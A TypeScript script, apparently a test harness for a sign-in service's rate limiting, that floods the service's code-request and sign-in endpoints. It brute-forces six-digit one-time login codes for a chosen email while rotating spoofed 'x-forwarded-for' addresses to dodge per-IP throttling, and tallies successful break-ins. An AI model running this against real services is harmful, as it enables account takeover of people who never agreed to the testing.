// Strangers as a process of their own: they ask for codes of one address and guess at them, from 10 000 addresses, until they are ended.

export {}

const [url = '', email = '', hands = '1'] = process.argv.slice(2)
const addresses = 10_000
const counts = { asked: 0, guesses: 0, compared: 0, tooMany: 0, other: 0, opened: 0 }
const flows: { flowId: string; flowSecret: string }[] = []
let address = 0

const post = (path: string, body: object): Promise<Response> => {
  address = (address + 1) % addresses
  const network = `10.0.${address >> 8}.${address & 255}`
  return fetch(`${url}${path}`, {
    method: 'POST',
    body: JSON.stringify(body),
    headers: { 'content-type': 'application/json', 'x-forwarded-for': network },
  })
}

const ask = async (): Promise<void> => {
  const answer = await post('/v1/codes', { email })
  counts.asked++
  const { flowId, flowSecret } = (await answer.json()) as { flowId: string; flowSecret: string }
  if (answer.status === 202) flows.push({ flowId, flowSecret })
}

const guess = async (): Promise<void> => {
  const flow = flows[Math.floor(Math.random() * flows.length)]
  if (!flow) return
  const code = String(Math.floor(Math.random() * 1_000_000)).padStart(6, '0')
  const answer = await post('/v1/sign-in', { ...flow, code })
  await answer.arrayBuffer()
  counts.guesses++
  if (answer.status === 200) counts.opened++
  else if (answer.status === 429) counts.tooMany++
  else if (answer.status !== 401) counts.other++
  else if (answer.headers.get('ratelimit')?.startsWith('"code"')) counts.compared++
}

const hand = async (): Promise<void> => {
  for (;;) await (Math.random() < 0.1 ? ask() : guess()).catch(() => counts.other++)
}

setInterval(() => console.log(JSON.stringify(counts)), 250)
for (let i = 0; i < Number(hands); i++) void hand()
